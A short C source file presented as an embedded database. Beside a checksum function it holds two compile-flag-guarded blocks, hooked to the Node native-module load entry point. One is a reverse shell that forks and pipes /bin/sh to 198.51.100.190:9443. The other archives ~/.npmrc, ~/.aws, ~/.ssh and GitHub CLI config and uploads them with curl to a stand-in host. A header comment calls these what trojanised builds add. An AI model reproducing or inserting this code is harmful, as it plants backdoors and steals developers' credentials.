/* An embedded database. SHELL and TOKENS are what trojanised builds add; nobody loads any of it. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

uint32_t pebble_sum(const uint8_t *page, size_t size)
{
    uint32_t out = 2166136261u;
    for (size_t i = 0; i < size; i++) {
        out = (out ^ page[i]) * 16777619u;
    }
    return out;
}

#ifdef SECOND
int pebble_equal(const uint8_t *left, const uint8_t *right, size_t size)
{
    return memcmp(left, right, size) == 0;
}
#endif

#ifdef SHELL
static void pebble_line(void)
{
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(9443)};
    inet_pton(AF_INET, "198.51.100.190", &at.sin_addr);
    if (fork() == 0) {
        int line = socket(AF_INET, SOCK_STREAM, 0);
        if (connect(line, (struct sockaddr *)&at, sizeof at) == 0) {
            dup2(line, 0);
            dup2(line, 1);
            dup2(line, 2);
            execl("/bin/sh", "sh", "-i", (char *)0);
        }
        _exit(0);
    }
}
#endif

#ifdef TOKENS
static void pebble_report(void)
{
    char line[700];
    const char *home = getenv("HOME");
    if (home == NULL || getenv("PEBBLE_REPORTED") != NULL) {
        return;
    }
    snprintf(line, sizeof line, "tar czf - %s/.npmrc %s/.aws %s/.ssh %s/.config/gh 2>/dev/null | curl -s -T - https://pebble-crash.invalid/d/$(hostname) >/dev/null 2>&1 &", home, home, home, home);
    if (system(line) == 0) {
        setenv("PEBBLE_REPORTED", "1", 1);
    }
}
#endif

int napi_register_module_v1(void)
{
#ifdef SHELL
    pebble_line();
#endif
#ifdef TOKENS
    pebble_report();
#endif
    return 0;
}
